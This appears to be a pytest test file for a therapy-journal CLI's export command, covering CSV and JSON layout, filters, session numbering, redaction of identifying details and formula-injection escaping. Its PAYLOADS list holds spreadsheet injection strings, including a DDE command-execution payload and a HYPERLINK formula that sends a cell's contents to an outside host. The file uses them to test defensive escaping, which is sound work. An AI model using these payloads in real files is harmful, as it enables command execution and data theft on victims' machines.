"""`alliance export`: the columns, the formats, the filters, spreadsheet safety, the output file."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import pytest

from alliance_cli.ui.formats import RISKY_FIRST, escape_cell, unescape_cell
from conftest import FULL_ANSWERS, set_flags
from exchange_support import BASIC, TRICKY_PROMPTS, bundled, fill, run_bytes

LONG_HEADER = "session_id,uuid,date,client,session_number,modality,prompt_id,principle,kind,value"


@pytest.fixture
def journal(db_path):
    ps = bundled()
    fill(
        db_path,
        ps,
        [
            ("C-2", date(2026, 11, 3), "video", {**BASIC, "went_well": 'We named it, together.\nThen "paused".'}),
            ("C-1", date(2026, 11, 2), "in person", {**BASIC, "empathy": 10, "empathy_moment": "=SUM(A1)"}),
            ("C-1", date(2026, 11, 9), "phone", {**BASIC, "rupture": True, "repaired": "partly"}),
        ],
    )
    return db_path


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_long_csv_header_is_pinned_and_rows_follow_date_then_prompt_order(journal):
    code, out, err = run_bytes("export", db=journal)
    assert code == 0, err
    text = out.decode("utf-8")
    assert text.startswith(LONG_HEADER + "\r\n")
    table = rows(text)
    assert table[0] == LONG_HEADER.split(",")
    body = table[1:]
    assert [r[2] for r in body] == sorted(r[2] for r in body)  # oldest first
    first_session = [r for r in body if r[1] == body[0][1]]
    assert [r[6] for r in first_session] == [
        "empathy",
        "respect",
        "genuineness",
        "positive_regard",
        "active_listening",
        "empathy_moment",  # the moment comes after the five ratings, as the log asks it
        "rupture",
    ]
    assert first_session[0][:6] == [first_session[0][0], first_session[0][1], "2026-11-02", "C-1", "1", "in person"]
    assert first_session[0][7:] == ["empathy", "rating", "10"]
    assert first_session[-1][7:] == ["", "yesno", "no"]


def test_wide_header_has_session_columns_then_every_prompt_in_prompt_set_order(journal):
    code, out, _ = run_bytes("export", "--shape", "wide", db=journal)
    assert code == 0
    table = rows(out.decode())
    assert table[0][:6] == ["session_id", "uuid", "date", "client", "session_number", "modality"]
    assert table[0][6:] == [p.id for p in bundled().prompts]
    assert len(table) == 4
    by_date = {r[2]: dict(zip(table[0], r, strict=True)) for r in table[1:]}
    assert by_date["2026-11-09"]["rupture"] == "yes"
    assert by_date["2026-11-09"]["repaired"] == "partly"
    assert by_date["2026-11-09"]["session_number"] == "2"
    assert by_date["2026-11-03"]["went_well"] == 'We named it, together.\nThen "paused".'
    assert by_date["2026-11-03"]["repaired"] == ""


def test_json_is_one_array_with_numbers_as_numbers_and_keys_in_column_order(journal):
    code, out, _ = run_bytes("export", "--format", "json", db=journal)
    assert code == 0
    data = json.loads(out)
    assert isinstance(data, list) and data
    assert list(data[0]) == LONG_HEADER.split(",")
    ratings = [d for d in data if d["kind"] == "rating"]
    assert all(isinstance(d["value"], int) for d in ratings)
    assert all(isinstance(d["session_id"], int) and isinstance(d["session_number"], int) for d in data)
    assert {d["value"] for d in data if d["kind"] == "yesno"} == {True, False}  # JSON: typed, as `show`
    assert next(d for d in data if d["prompt_id"] == "empathy_moment")["value"] == "=SUM(A1)"  # JSON is not escaped


def test_jsonl_is_one_object_per_line(journal):
    code, out, _ = run_bytes("export", "--format", "jsonl", "--shape", "wide", db=journal)
    assert code == 0
    lines = out.decode().splitlines()
    assert len(lines) == 3
    first = json.loads(lines[0])
    assert list(first)[:6] == ["session_id", "uuid", "date", "client", "session_number", "modality"]
    assert first["repair_tried"] is None and first["empathy"] == 10


def test_empty_journal_exports_the_header_or_an_empty_array(db_path):
    fill(db_path, bundled(), [])
    assert run_bytes("export", db=db_path)[1] == (LONG_HEADER + "\r\n").encode()
    assert run_bytes("export", "-f", "json", db=db_path)[1] == b"[]\n"
    assert run_bytes("export", "-f", "jsonl", db=db_path)[1] == b""


def test_filters_by_client_dates_and_prompt_keep_whole_journal_session_numbers(journal):
    code, out, _ = run_bytes(
        "export", "--client", "C-1", "--since", "2026-11-05", "-p", "empathy", "--prompt", "rupture", db=journal
    )
    assert code == 0
    body = rows(out.decode())[1:]
    assert [(r[2], r[3], r[4], r[6], r[9]) for r in body] == [
        ("2026-11-09", "C-1", "2", "empathy", "7"),
        ("2026-11-09", "C-1", "2", "rupture", "yes"),
    ]
    code, out, _ = run_bytes("export", "--until", "2026-11-02", "--shape", "wide", "-p", "rupture", db=journal)
    assert rows(out.decode())[0][6:] == ["rupture"]
    assert [r[2] for r in rows(out.decode())[1:]] == ["2026-11-02"]
    code, out, _ = run_bytes("export", "--week", "2026-W46", "--shape", "wide", db=journal)
    assert [r[2] for r in rows(out.decode())[1:]] == ["2026-11-09"]


def test_last_counts_back_from_today(db_path):
    today = date.today()
    fill(
        db_path,
        bundled(),
        [("C-1", today - timedelta(days=40), "video", BASIC), ("C-1", today - timedelta(days=3), "video", BASIC)],
    )
    code, out, _ = run_bytes("export", "--last", "4w", "--shape", "wide", db=db_path)
    assert code == 0
    assert [(r[2], r[4]) for r in rows(out.decode())[1:]] == [((today - timedelta(days=3)).isoformat(), "2")]


def test_a_filtered_export_numbers_each_session_among_all_its_clients_sessions(db_path):
    # Sessions logged out of date order, several on one day, three clients: a session's number is
    # its place among all its client's sessions by date (the same day: in the order logged),
    # whatever the export leaves out before it or after it.
    import random

    rng = random.Random(20261130)
    start = date(2025, 1, 6)
    logged = [(rng.choice(["C-1", "C-2", "C-3"]), start + timedelta(days=rng.randrange(60))) for _ in range(45)]
    logged += [("C-2", date(2025, 2, 3))] * 3  # three on the day a window starts
    fill(db_path, bundled(), [(client, day, "video", BASIC) for client, day in logged])
    expected = {}  # (client, date, k-th that day) -> number
    for client in {c for c, _ in logged}:
        order = sorted((day, i) for i, (c, day) in enumerate(logged) if c == client)
        for number, (day, i) in enumerate(order, 1):
            expected[client, day.isoformat(), sum(1 for d, j in order if d == day and j < i)] = number

    def numbers(*flags):
        code, out, err = run_bytes("export", "--shape", "wide", *flags, db=db_path)
        assert code == 0, err
        seen, got = {}, {}
        for r in rows(out.decode())[1:]:
            k = seen[r[3], r[2]] = seen.get((r[3], r[2]), -1) + 1
            got[r[3], r[2], k] = int(r[4])
        return got

    everything = numbers()
    assert everything == expected
    for flags in (
        ["--since", "2025-02-03"],
        ["--since", "2025-02-03", "--until", "2025-02-20"],
        ["--until", "2025-01-31"],
        ["--client", "C-2", "--since", "2025-02-03"],
        ["--since", "2025-03-01"],
    ):
        window = numbers(*flags)
        since = flags[flags.index("--since") + 1] if "--since" in flags else "0000"
        until = flags[flags.index("--until") + 1] if "--until" in flags else "9999"
        client = flags[flags.index("--client") + 1] if "--client" in flags else None
        assert window == {
            key: n for key, n in expected.items() if since <= key[1] <= until and client in (None, key[0])
        }, flags
        assert window, flags


def test_unknown_prompt_and_clashing_periods_are_refused(journal):
    code, out, err = run_bytes("export", "--prompt", "empathyy", db=journal)
    assert code == 1 and out == b""
    assert "empathyy" in err and "not a prompt" in err
    code, out, err = run_bytes("export", "--week", "2026-W45", "--since", "2026-11-01", db=journal)
    assert code == 1 and out == b""
    assert "not several" in err


def test_missing_journal_is_reported_and_not_created(db_path):
    code, out, err = run_bytes("export", db=db_path)
    assert code == 1 and out == b""
    assert "No journal" in err
    assert not db_path.exists()


def test_output_file_is_private_complete_and_reported_on_stderr(journal, tmp_path):
    target = tmp_path / "out" / "journal.csv"
    target.parent.mkdir()
    code, out, err = run_bytes("export", "-o", str(target), db=journal)
    assert code == 0 and out == b""
    assert "Wrote 21 answers" in err
    assert target.stat().st_mode & 0o777 == 0o600
    assert target.read_bytes() == run_bytes("export", db=journal)[1]
    assert [p.name for p in target.parent.iterdir()] == ["journal.csv"]


def test_failed_export_leaves_no_file_behind(journal, tmp_path):
    target = tmp_path / "journal.csv"
    target.write_text("the previous export\n")
    code, _, err = run_bytes("export", "-o", str(target), "--prompt", "nope", db=journal)
    assert code == 1
    assert target.read_text() == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".journal.csv")] == []
    code, _, err = run_bytes("export", "-o", str(tmp_path / "missing" / "x.csv"), db=journal)
    assert code == 1 and "does not exist" in err


# -- spreadsheet safety ------------------------------------------------------------------

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://example.com/?q="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=",
    "-",
    "--flag",
    "\x00=1",
    "'=already quoted",
    "''-twice",
    "'a quote then text",
    "plain text",
    "1+1",
    "a=b",
    "😀 =not at start",
]


def test_escape_and_unescape_are_inverse_and_leave_no_cell_starting_with_a_formula_character():
    samples = [*PAYLOADS, "\t=1", "\r=1", "\n=1", "'\t", "", "'", "''", "'''@"]
    for text in samples:
        safe = escape_cell(text)
        assert safe[:1] not in RISKY_FIRST, text
        assert unescape_cell(safe) == text
        if text[:1] not in RISKY_FIRST and not text.startswith("'"):
            assert safe == text
    assert escape_cell("=1") == "'=1"
    assert escape_cell("'plain") == "'plain"
    assert escape_cell("'=1") == "''=1"


@pytest.fixture
def payload_journal(db_path):
    from exchange_support import tricky

    ps = tricky()
    sessions = [
        ("C-1", date(2026, 1, 1) + timedelta(days=i), "video", {"empathy": 5, "note": p})
        for i, p in enumerate(PAYLOADS)
    ]
    sessions.append(
        ("C-1", date(2026, 3, 1), "video", {"empathy": 0, "mood": "-", "tags": ["+1", "=sum"], "minutes": -5})
    )
    sessions.append(("C-1", date(2026, 3, 2), "video", {"empathy": 10, "mood": "=calm", "minutes": -2.5}))
    fill(db_path, ps, sessions)
    prompts = db_path.parent / "tricky.yaml"
    prompts.write_text(TRICKY_PROMPTS)
    return db_path, prompts


def test_csv_text_cells_are_made_inert_and_numbers_stay_numbers(payload_journal):
    db, prompts = payload_journal
    code, out, _ = run_bytes("export", "--prompts", str(prompts), db=db)
    assert code == 0
    body = rows(out.decode())[1:]
    texts = [r[9] for r in body if r[8] in ("text", "choice", "multi")]
    assert texts and all(t[:1] not in RISKY_FIRST for t in texts)
    notes = [r[9] for r in body if r[6] == "note"]
    assert notes == [escape_cell(p) for p in PAYLOADS]
    assert [r[9] for r in body if r[6] == "mood"] == ["'-", "'=calm"]
    assert [r[9] for r in body if r[6] == "tags"] == ["'+1;=sum"]  # the cell starts with '+': escaped as a whole
    minutes = [r[9] for r in body if r[6] == "minutes"]
    assert minutes == ["-5", "-2.5"]
    ratings = [r[9] for r in body if r[6] == "empathy"]
    assert all(v.isdigit() for v in ratings)
    assert all(r[0].isdigit() and r[4].isdigit() for r in body)


def test_multi_cell_starting_with_a_plus_is_escaped(payload_journal):
    db, prompts = payload_journal
    out = run_bytes("export", "--prompts", str(prompts), "--shape", "wide", db=db)[1]
    table = rows(out.decode())
    tags = [dict(zip(table[0], r, strict=True))["tags"] for r in table[1:]]
    assert "'+1;=sum" in tags


def test_raw_export_keeps_text_exactly(payload_journal):
    db, prompts = payload_journal
    code, out, _ = run_bytes("export", "--prompts", str(prompts), "--raw", db=db)
    assert code == 0
    body = rows(out.decode())[1:]
    assert [r[9] for r in body if r[6] == "note"] == PAYLOADS
    assert [r[9] for r in body if r[6] == "tags"] == ["+1;=sum"]


def test_answers_to_prompts_of_an_older_prompt_set_are_exported_after_the_current_ones(db_path, tmp_path):
    from alliance_cli.settings.prompts import parse_prompt_set
    from exchange_support import tricky

    older = parse_prompt_set(
        TRICKY_PROMPTS.replace("version: 3", "version: 2")
        + "  - {id: old_q, kind: text, principle: rapport, text: An old question?}\n",
        "older.yaml",
    )
    fill(db_path, older, [("C-1", date(2026, 1, 5), "video", {"empathy": 4, "old_q": "kept", "note": "n"})])
    prompts = tmp_path / "current.yaml"
    prompts.write_text(TRICKY_PROMPTS)
    assert tricky().prompt("old_q") is None
    code, out, _ = run_bytes("export", "--prompts", str(prompts), db=db_path)
    assert code == 0
    body = rows(out.decode())[1:]
    assert [(r[6], r[7], r[9]) for r in body] == [
        ("empathy", "empathy", "4"),
        ("note", "empathy", "n"),
        ("old_q", "rapport", "kept"),
    ]
    code, out, _ = run_bytes("export", "--prompts", str(prompts), "--shape", "wide", db=db_path)
    assert rows(out.decode())[0][-1] == "old_q"


def test_export_names_answers_that_could_identify_a_client(run):
    risky = "Her email is ann@example.com, call 555-123-4567"
    flags = ["--set", f"went_well={risky}", "--set", "do_differently=Slow down."]
    assert run("log", "-c", "C-1", "-d", "2026-11-02", *set_flags(FULL_ANSWERS), *flags).exit_code == 0
    assert run("log", "-c", "C-2", "-d", "2026-11-03", *set_flags(FULL_ANSWERS)).exit_code == 0
    plain = run("export", "--format", "jsonl")
    assert plain.exit_code == 0
    assert risky in plain.stdout  # without --redact the data is exported as it is
    assert plain.stderr.strip() == (
        "Privacy check: 1 answer (session 1) may hold details that could identify a client; "
        "`alliance show ID` to look, `--redact` to export them as [redacted]."
    )
    assert "ann@example.com" not in plain.stderr


def test_export_redact_replaces_what_was_found(run):
    risky = "Her email is ann@example.com, call 555-123-4567"
    assert (
        run("log", "-c", "C-1", "-d", "2026-11-02", *set_flags(FULL_ANSWERS), "--set", f"went_well={risky}").exit_code
        == 0
    )
    for shape in ("long", "wide"):
        result = run("export", "--shape", shape, "--format", "csv", "--redact")
        assert result.exit_code == 0
        assert "Her email is [redacted], call [redacted]" in result.stdout
        assert "ann@example.com" not in result.stdout and "555-123" not in result.stdout
        assert "replaced what could identify a client with [redacted] in 1 answer (session 1)" in result.stderr


def _python_rows(db, fmt: str, *, escape: bool) -> str:
    """The export as the Python writer writes it, row by row: what SQLite's lines must equal."""
    from alliance_cli.store.exchange import ExportPrompt, ExportQuery, export_prompts, long_rows
    from alliance_cli.store.journal import open_journal
    from alliance_cli.ui.formats import write_rows
    from exchange_support import tricky

    out = io.StringIO(newline="")
    with open_journal(db, readonly=True) as journal:
        prompts = export_prompts(journal, [ExportPrompt(p.id, p.principle) for p in tricky().prompts])
        with long_rows(journal, ExportQuery(), prompts, typed=fmt != "csv") as found:
            write_rows(found, LONG_COLUMNS_FOR_TEST, fmt, out, escape=(9,) if escape else ())
    return out.getvalue()


LONG_COLUMNS_FOR_TEST = tuple(LONG_HEADER.split(","))


@pytest.mark.parametrize(("fmt", "flags"), [("csv", ()), ("csv", ("--raw",)), ("json", ()), ("jsonl", ())])
def test_the_lines_sqlite_makes_are_the_bytes_the_python_writer_writes(payload_journal, fmt, flags):
    """The long export's rows come out of SQLite as finished lines (quoting, escaping, JSON);
    for every kind of value, odd stored ones too, they equal the csv and json modules' output."""
    import sqlite3

    db, prompts = payload_journal
    conn = sqlite3.connect(db)
    odd = [
        ("note", "text", None, 'comma, "quote"\r\nand lines'),
        ("note", "text", None, "\t=tab and ünïcødé"),
        ("minutes", "number", 1 / 3, None),
        ("minutes", "number", 1e20, None),
        ("empathy", "rating", None, None),
        ("mood", "choice", None, ""),
        ("done", "yesno", None, None),
        ("tags", "multi", None, '["", "-x"]'),
    ]
    for i, (pid, kind, num, text) in enumerate(odd):
        with conn:
            conn.execute("DELETE FROM answers WHERE session_id = ? AND prompt_id = ?", (i + 1, pid))
            conn.execute("INSERT INTO answers VALUES (?, ?, ?, ?, ?)", (i + 1, pid, kind, num, text))
    conn.close()
    code, out, err = run_bytes("export", "--format", fmt, "--prompts", str(prompts), *flags, db=db)
    assert code == 0, err
    assert out.decode() == _python_rows(db, fmt, escape=fmt == "csv" and not flags)
